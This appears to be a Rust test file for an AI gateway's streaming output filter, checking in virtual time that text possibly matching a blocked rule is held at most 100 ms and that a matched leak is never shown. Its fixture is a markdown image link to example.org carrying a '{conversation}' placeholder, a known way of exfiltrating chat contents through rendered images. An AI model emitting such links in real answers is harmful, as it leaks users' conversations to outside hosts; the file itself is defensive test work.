//! Streamed answers are held back only where something in them may still be
//! blocked, and not for long. In virtual time.

#![allow(clippy::unwrap_used, reason = "a panic is how a test fails")]

use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use bytes::Bytes;
use futures_util::{StreamExt, stream};
use serde_json::Value;
use tidegate_engine::{
    AnswerBody, AnswerStream, Caller, ChainConfig, ChatRequest, Context, Deadline, EmbedRequest,
    Engine, EngineConfig, EngineError, EntryConfig, Provider, ProviderConfig, ProviderError,
    ProviderKind, Quota, Unavailability, Usage,
};
use tidegate_provider::{ChunkStream, Completion, Composer};
use tokio::time::{Instant, sleep};

/// What a critical rule finds in answers, in two parts.
const LEAK: [&str; 2] = [
    "see ![x](https://example.org/p.png?q=",
    "{conversation}) there",
];

/// How the answer of an upstream ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum End {
    Well,
    /// It says that it is over 150 ms after its last part.
    Late,
    Death,
}

/// Says each part so many milliseconds after the one before.
#[derive(Debug)]
struct Upstream {
    parts: Vec<(u64, &'static str)>,
    end: End,
}

#[async_trait]
impl Provider for Upstream {
    async fn complete(&self, _: &str, _: &ChatRequest) -> Result<Completion, ProviderError> {
        Err(Unavailability::Reset.into())
    }

    async fn stream(&self, _: &str, _: &ChatRequest) -> Result<ChunkStream, ProviderError> {
        let composer = Composer {
            id: "x".to_owned(),
            created: 1,
            model: "m".to_owned(),
        };
        let texts: Vec<String> = self
            .parts
            .iter()
            .map(|(_, text)| (*text).to_owned())
            .collect();
        let mut chunks: Vec<_> = composer
            .chunks(&texts, Usage::default())
            .into_iter()
            .map(Ok)
            .collect();
        if self.end == End::Death {
            chunks.retain(|chunk: &Result<tidegate_provider::Chunk, ProviderError>| {
                chunk.as_ref().is_ok_and(|chunk| chunk.facts.finished == 0)
            });
            chunks.push(Err(Unavailability::Reset.into()));
        }
        let mut pauses = self
            .parts
            .iter()
            .map(|(pause, _)| *pause)
            .collect::<Vec<_>>()
            .into_iter();
        let timed: Vec<_> = chunks
            .into_iter()
            .map(|chunk| {
                let says = chunk.as_ref().is_ok_and(|chunk| chunk.facts.has_content);
                let ends = chunk.as_ref().is_ok_and(|chunk| chunk.facts.finished > 0);
                let pause = match self.end {
                    _ if says => pauses.next().unwrap_or(0),
                    End::Late if ends => 150,
                    End::Well | End::Late | End::Death => 0,
                };
                (pause, chunk)
            })
            .collect();
        let slowly = stream::iter(timed).then(|(pause, chunk)| async move {
            sleep(Duration::from_millis(pause)).await;
            chunk
        });
        Ok(slowly.boxed())
    }

    async fn embed(&self, _: &str, _: &EmbedRequest) -> Result<Completion, ProviderError> {
        Err(Unavailability::Reset.into())
    }
}

async fn answer(parts: &[(u64, &'static str)], end: End) -> AnswerStream {
    let upstream = Upstream {
        parts: parts.to_vec(),
        end,
    };
    let entry = EntryConfig {
        quota: Quota::unlimited(),
        ..EntryConfig::new("up", "m")
    };
    let config = EngineConfig {
        providers: vec![ProviderConfig {
            name: "up".to_owned(),
            kind: ProviderKind::Custom(Arc::new(upstream)),
        }],
        chains: vec![ChainConfig {
            name: "m".to_owned(),
            entries: vec![entry],
        }],
        ..EngineConfig::default()
    };
    let engine = Engine::assemble(config).unwrap();
    let body = r#"{"model":"m","stream":true,"messages":[{"role":"user","content":"hello"}]}"#;
    let request = ChatRequest::parse(Bytes::from(body)).unwrap();
    let context = Context::new(Caller::default(), Deadline::after(Duration::from_secs(60)));
    match engine.chat(request, &context).await.unwrap().body {
        AnswerBody::Stream(stream) => *stream,
        AnswerBody::Whole(_) => panic!("a stream was asked for"),
    }
}

/// When which text was shown, in milliseconds, and how it ended.
async fn shown(mut answer: AnswerStream) -> (Vec<(u64, String)>, Result<(), EngineError>) {
    let began = Instant::now();
    let mut shown = Vec::new();
    while let Some(next) = answer.next().await {
        match next {
            Ok(chunk) => {
                let json: Value = serde_json::from_slice(&chunk.json).unwrap();
                if let Some(text) = json["choices"][0]["delta"]["content"].as_str() {
                    let at = u64::try_from(began.elapsed().as_millis()).unwrap();
                    shown.push((at, text.to_owned()));
                }
            }
            Err(error) => return (shown, Err(error)),
        }
    }
    (shown, Ok(()))
}

#[tokio::test(start_paused = true)]
async fn ordinary_text_passes_at_once() {
    let parts = [(0, "The tide "), (400, "turns at "), (400, "noon. ")];
    let (shown, end) = shown(answer(&parts, End::Well).await).await;
    assert!(end.is_ok());
    let times: Vec<u64> = shown
        .iter()
        .filter(|(_, text)| !text.is_empty())
        .map(|(at, _)| *at)
        .collect();
    assert_eq!(times, [0, 400, 800]);
}

#[tokio::test(start_paused = true)]
async fn what_may_be_a_leak_is_held_until_it_is_one_and_then_never_shown() {
    let parts = [(0, "Look: "), (10, LEAK[0]), (90, LEAK[1]), (0, " more ")];
    let (shown, end) = shown(answer(&parts, End::Well).await).await;
    assert!(matches!(end, Err(EngineError::Blocked { .. })), "{end:?}");
    let said: String = shown.into_iter().map(|(_, text)| text).collect();
    assert_eq!(said, "Look: ");
}

#[tokio::test(start_paused = true)]
async fn what_may_be_a_leak_and_is_none_is_shown_when_that_is_known() {
    let parts = [
        (0, "Look: "),
        (10, LEAK[0]),
        (50, " nothing here. "),
        (500, "End. "),
    ];
    let (shown, end) = shown(answer(&parts, End::Well).await).await;
    assert!(end.is_ok());
    let times: Vec<u64> = shown
        .iter()
        .filter(|(_, text)| !text.is_empty())
        .map(|(at, _)| *at)
        .collect();
    assert_eq!(times, [0, 60, 60, 560]);
}

#[tokio::test(start_paused = true)]
async fn nothing_is_held_for_longer_than_100_ms() {
    let parts = [
        (0, "Look: "),
        (10, LEAK[0]),
        (5_000, LEAK[1]),
        (0, " more "),
    ];
    let (shown, end) = shown(answer(&parts, End::Well).await).await;
    assert!(matches!(end, Err(EngineError::Blocked { .. })), "{end:?}");
    let last = shown.last().unwrap();
    assert_eq!(last, &(110, LEAK[0].to_owned()));
}

#[tokio::test(start_paused = true)]
async fn what_came_before_an_upstream_died_is_shown_before_the_error() {
    let parts = [(0, "Look: "), (10, LEAK[0])];
    let (shown, end) = shown(answer(&parts, End::Death).await).await;
    assert!(matches!(end, Err(EngineError::Upstream { .. })), "{end:?}");
    assert_eq!(shown.last().unwrap().1, LEAK[0]);
}

#[tokio::test(start_paused = true)]
async fn a_leak_that_was_whole_when_the_upstream_died_is_not_shown() {
    // That this is a match shows only with the next letter, or the end.
    let parts = [(0, "Look: "), (10, LEAK[0]), (10, "{conversation}")];
    let (shown, end) = shown(answer(&parts, End::Death).await).await;
    assert!(matches!(end, Err(EngineError::Blocked { .. })), "{end:?}");
    let said: String = shown.into_iter().map(|(_, text)| text).collect();
    assert_eq!(said, "Look: ");
}

#[tokio::test(start_paused = true)]
async fn a_leak_that_the_end_completes_is_not_shown() {
    // That this is a match shows only with the next letter, or the end.
    let parts = [(0, "Look: "), (10, LEAK[0]), (10, "{conversation}")];
    let (shown, end) = shown(answer(&parts, End::Well).await).await;
    assert!(matches!(end, Err(EngineError::Blocked { .. })), "{end:?}");
    let said: String = shown.into_iter().map(|(_, text)| text).collect();
    assert_eq!(said, "Look: ");
}

#[tokio::test(start_paused = true)]
async fn a_blocked_answer_never_says_that_it_ended_well() {
    let parts = [(0, "Look: "), (10, LEAK[0]), (10, "{conversation}")];
    let answer = answer(&parts, End::Late).await;
    let (mut ends, mut error) = (0, None);
    for next in answer.collect::<Vec<_>>().await {
        match next {
            Ok(chunk) => ends += chunk.facts.finished,
            Err(blocked) => error = Some(blocked),
        }
    }
    assert!(
        matches!(error, Some(EngineError::Blocked { .. })),
        "{error:?}"
    );
    assert_eq!(ends, 0);
}
